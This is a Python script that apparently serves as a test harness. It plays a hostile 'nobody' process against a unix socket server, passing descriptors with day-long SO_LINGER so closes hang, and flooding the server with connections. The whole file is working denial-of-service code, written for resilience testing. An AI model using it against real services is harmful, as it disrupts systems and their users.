"""A hostile process at a unix socket, of the user nobody: a program of the standard library alone.

python attacker.py linger SOCKET COUNT     sends COUNT descriptors whose close takes a day
python attacker.py crowd SOCKET COUNT      calls COUNT times, and hangs up each time
python attacker.py siege SOCKET 0          calls until it is killed, and hangs up each time

It attacks once standard input has a line, prints `sent`, or `refused` where the kernel refuses, and
stays until it is killed.
"""

import os
import signal
import socket
import struct
import sys

DAY = 86400
NOBODY = 65534


def linger(path: str, count: int) -> None:
    """Send sockets with SO_LINGER whose bytes nobody reads, and leave them to the receiver."""
    ends = [_unread() for _ in range(count)]
    closed, wait_closed = os.pipe()
    if os.fork():
        for sender, _ in ends:
            sender.close()
        os.write(wait_closed, b"x")
        signal.pause()  # with the ends that nobody reads
    os.read(closed, 1)
    sys.stdin.readline()
    while True:
        caller = socket.socket(socket.AF_UNIX)
        try:
            caller.connect(path)
            socket.send_fds(caller, [b"x"], [sender.fileno() for sender, _ in ends])
        except PermissionError:
            _report("refused")
        except BrokenPipeError:
            continue  # refused as a caller, before it could send anything
        else:
            _report("sent")
        os._exit(0)  # an ending process does not wait, and leaves the rest to the receiver


def crowd(path: str, count: int) -> None:
    """Call, more often than anybody answers."""
    sys.stdin.readline()
    for _ in range(count):
        with socket.socket(socket.AF_UNIX) as caller:
            caller.connect(path)
    _report("sent")
    signal.pause()


def siege(path: str, _: int) -> None:
    """Call without an end."""
    sys.stdin.readline()
    _report("sent")
    while True:
        with socket.socket(socket.AF_UNIX) as caller:
            caller.connect(path)


def _report(outcome: str) -> None:
    print(outcome, flush=True)  # noqa: T201


def _unread() -> tuple[socket.socket, socket.socket]:
    """Return a TCP socket with bytes that its other end never reads, and the other end."""
    with socket.socket() as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2304)
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        sender = socket.socket()
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4608)
        sender.connect(listener.getsockname())
        receiver, _ = listener.accept()
    sender.setblocking(False)  # noqa: FBT003 - the socket module's signature
    try:
        while True:
            sender.send(bytes(65536))
    except BlockingIOError:
        pass
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, DAY))
    return sender, receiver


if __name__ == "__main__":
    if os.geteuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    {"linger": linger, "crowd": crowd, "siege": siege}[sys.argv[1]](sys.argv[2], int(sys.argv[3]))
